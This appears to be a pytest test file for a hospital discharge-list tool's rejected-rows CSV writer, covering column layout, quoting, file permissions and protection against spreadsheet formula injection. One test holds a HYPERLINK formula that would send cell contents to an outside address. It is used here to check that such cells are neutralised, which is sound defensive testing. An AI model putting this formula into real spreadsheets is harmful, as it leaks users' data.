"""The rejects file: the original columns, then ours; private; never over earlier corrections."""

from __future__ import annotations

import csv
import io
import stat
import sys

import pytest
import workbooks
from hypothesis import given
from hypothesis import strategies as st

from caretool.errors import FileError
from caretool.intake import rejects
from caretool.intake.layout import known_header
from caretool.intake.opening import open_listings
from caretool.intake.rows import Rejected

HEADER = ("MRN", "Name", "Disch Date")
CELLS = ("1", "Hill, Ana", "13/45/2026")
WRONG = Rejected(7, 6, "Disch Date", "13/45/2026", "is not a date", CELLS, "unreadable-discharge")


def written(header, row, *, delimiter=",", date_format=None):
    body = rejects.content(header, delimiter, [row], date_format)
    assert body.startswith(b"\xef\xbb\xbf"), "a spreadsheet program needs the mark to read UTF-8"
    text = body.decode("utf-8-sig")
    assert text.count("\r\n") == len(text.splitlines()) == 2
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def mode(path):
    return stat.S_IMODE(path.stat().st_mode)


def test_the_original_columns_come_first_then_line_column_value_reason_and_date_form():
    header, row = written(HEADER, WRONG, date_format="mdy")
    assert header == [
        "MRN", "Name", "Disch Date",
        "rejected_line", "rejected_column", "rejected_value", "rejected_reason", "rejected_rule",
        "rejected_date_format",
    ]  # fmt: skip
    assert row == [
        "1", "Hill, Ana", "13/45/2026", "7", "Disch Date", "13/45/2026", "is not a date",
        "unreadable-discharge", "mdy",
    ]  # fmt: skip


@pytest.mark.parametrize("delimiter", list(",;\t|"))
def test_the_delimiter_is_kept_and_cells_that_hold_it_are_quoted(delimiter):
    cells = ("1", f"Hill{delimiter} Ana", 'says "no"\nand more')
    body = rejects.content(HEADER, delimiter, [WRONG._replace(cells=cells)], None)
    text = io.StringIO(body.decode("utf-8-sig"), newline="")
    header, row = list(csv.reader(text, delimiter=delimiter))
    assert header[:3] == list(HEADER)
    assert row[:3] == list(cells)
    assert row[-1] == ""


def test_a_row_with_too_few_cells_is_filled_up_and_one_with_too_many_cut_to_the_columns():
    assert written(HEADER, WRONG._replace(cells=("1",)))[1][:4] == ["1", "", "", "7"]
    assert written(HEADER, WRONG._replace(cells=(*CELLS, "4")))[1][:4] == [*CELLS, "7"]


def test_the_columns_of_an_earlier_rejects_file_are_replaced_not_piled_up():
    first = written(HEADER, WRONG, date_format="dmy")
    again = written(tuple(first[0]), WRONG._replace(line=2, cells=tuple(first[1])))
    assert again[0] == first[0]
    assert again[1][:4] == ["1", "Hill, Ana", "13/45/2026", "2"]


def test_it_is_written_beside_the_list_and_only_for_its_owner(tmp_path):
    path = rejects.write_beside(tmp_path / "list.psv", b"rows")
    assert path == tmp_path / "list.rejects.csv"
    assert path.read_bytes() == b"rows"
    if sys.platform != "win32":
        assert mode(path) == 0o600


def test_an_earlier_rejects_file_is_never_written_over(tmp_path):
    source = tmp_path / "list.csv"
    first = rejects.write_beside(source, b"one")
    assert rejects.write_beside(source, b"one") == first, "the same is not written twice"
    first.write_bytes(b"corrected")
    second = rejects.write_beside(source, b"one")
    third = rejects.write_beside(source, b"two")
    assert [path.name for path in (first, second, third)] == [
        "list.rejects.csv", "list.rejects-2.csv", "list.rejects-3.csv",
    ]  # fmt: skip
    assert first.read_bytes() == b"corrected"
    assert rejects.write_beside(source, b"one") == second


@pytest.mark.parametrize("name", ["list.rejects.csv", "list.rejects-2.csv"])
def test_what_is_rejected_of_a_rejects_file_stands_beside_it_under_the_lists_name(name, tmp_path):
    (tmp_path / "list.rejects.csv").write_bytes(b"first")
    assert rejects.write_beside(tmp_path / name, b"second").name == "list.rejects-2.csv"


def test_a_named_place_is_written_to_as_it_is(tmp_path):
    path = tmp_path / "wrong rows.txt"
    assert rejects.write_to(path, b"one") == path
    rejects.write_to(path, b"2")
    assert path.read_bytes() == b"2"


def test_a_folder_of_that_name_or_a_name_too_long_is_no_bug(tmp_path):
    (tmp_path / "list.rejects.csv").mkdir()
    assert rejects.write_beside(tmp_path / "list.csv", b"rows").name == "list.rejects-2.csv"
    with pytest.raises(FileError, match="cannot be written"):
        rejects.write_beside(tmp_path / ("x" * 250 + ".csv"), b"rows")


def test_a_place_that_cannot_be_written_to_is_one_clear_error(tmp_path):
    with pytest.raises(FileError, match="the rejected rows cannot be written") as caught:
        rejects.write_to(tmp_path / "no" / "folder.csv", b"rows")
    assert "--rejects" in caught.value.hint


# what a spreadsheet program would run


def opened(body):
    (listing,) = open_listings(body, name="list.rejects.csv", known=known_header("discharges"))
    return listing


FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"look")'


def test_no_cell_of_a_rejects_file_runs_in_a_spreadsheet_program():
    row = Rejected(7, 6, "-Disch Date", "@x", f"{FORMULA} is no date", ("+1", FORMULA, "@x"), "r")
    body = rejects.content(
        ("MRN", "Name", "-Disch Date"), ",", [row], "mdy", titles=["=Title", "St. Brigid"]
    )
    found = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert found[0] == ["'=Title"]
    assert found[2][:3] == ["MRN", "Name", "'-Disch Date"]
    assert found[3][:6] == ["'+1", f"'{FORMULA}", "'@x", "7", "'-Disch Date", "'@x"]
    assert not [one for line in found for one in line if one[:1] in tuple("=+-@\t\r\n")]


def test_the_corrected_file_is_read_without_its_guards():
    row = WRONG._replace(cells=("-7", "=Cmd, Ann", "@x"))
    listing = opened(rejects.content(HEADER, ",", [row], None, titles=["=Title"]))
    assert listing.titles == ("=Title",)
    assert listing.header[:3] == HEADER
    ((_, _, cells),) = listing
    assert cells[:3] == ["-7", "=Cmd, Ann", "@x"]


def test_so_it_is_when_it_was_saved_as_a_workbook():
    names = (*HEADER, *rejects.COLUMNS)
    cells = ("'-7", "'=Cmd, Ann", "11/20/2026", 7, "Name", "'=Cmd, Ann", "why", "rule", "mdy")
    listing = opened(workbooks.xlsx({"List": workbooks.sheet({1: names, 2: cells})}))
    assert listing.format == "workbook"
    ((_, _, found),) = listing
    assert found[:3] == ["-7", "=Cmd, Ann", "11/20/2026"]


def test_an_apostrophe_in_any_other_file_is_part_of_its_cell():
    listing = opened(b"MRN,Name,Disch Date\r\n'-7,\"'=Cmd, Ann\",11/20/2026\r\n")
    ((_, _, cells),) = listing
    assert cells == ["'-7", "'=Cmd, Ann", "11/20/2026"]


@given(
    st.lists(
        st.text(st.sampled_from([*"=+-@'\"aZ1é,; \t\n", "\uff1d"]), min_size=1, max_size=9).map(
            lambda text: f"{text.strip()}."  # blanks at its ends are nothing to a list's cell
        ),
        min_size=2,
        max_size=2,
    )
)
def test_whatever_is_rejected_comes_back_as_it_was(texts):
    row = WRONG._replace(cells=("1", *texts), value=texts[0])
    listing = opened(rejects.content(HEADER, ",", [row], None))
    ((_, _, cells),) = listing
    assert cells[:3] == ["1", *texts]
    again = Rejected(2, 1, "Name", texts[0], "still wrong", tuple(cells), "r")
    ((_, _, twice),) = opened(rejects.content(listing.header, ",", [again], None))
    assert twice[:3] == ["1", *texts], "also the second time"
